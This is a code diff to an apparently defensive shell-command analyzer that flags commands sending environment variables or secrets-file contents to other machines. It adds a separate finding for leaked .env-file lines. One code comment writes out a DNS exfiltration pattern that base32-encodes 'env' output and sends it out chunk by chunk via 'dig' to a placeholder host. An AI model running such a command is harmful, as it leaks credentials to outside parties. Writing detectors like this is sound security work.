@@ -30,7 +30,7 @@ import {
   urlHost,
 } from "./secret_env.ts";
 import { credentialPrinted } from "./token_printers.ts";
-import { dumpVarIn } from "./dump_vars.ts";
+import { dumpVarIn, SECRET_FILE } from "./dump_vars.ts";
 import { isDumper } from "./dumpers.ts";
 
 /** Programs that use credentials without printing them (ssh -i key, kubectl...) or only look at paths. */
@@ -708,7 +708,15 @@ export function analyzeSinks(u: Unit, st: State, pipe: Pipe): void {
   if (DNS_TOOLS.has(u.name) || SINKS.has(u.name)) {
     // dig +short $l.x.example inside `for l in $(env | base32)`: the dump goes out a chunk at a time.
     const held = u.args.map((a) => dumpVarIn(a.text, st)).find((x) => x);
-    if (held) {
+    if (held?.[1].startsWith(SECRET_FILE)) {
+      m.add(
+        "env_file_exfiltration",
+        `${u.name} sends $${held[0]}, which holds lines of the secrets file ${
+          held[1].slice(SECRET_FILE.length)
+        }, to another machine`,
+        "share only .env.example with placeholder values",
+      );
+    } else if (held) {
       m.add(
         "env_exfiltration",
         `${u.name} sends $${held[0]}, which holds the output of ${
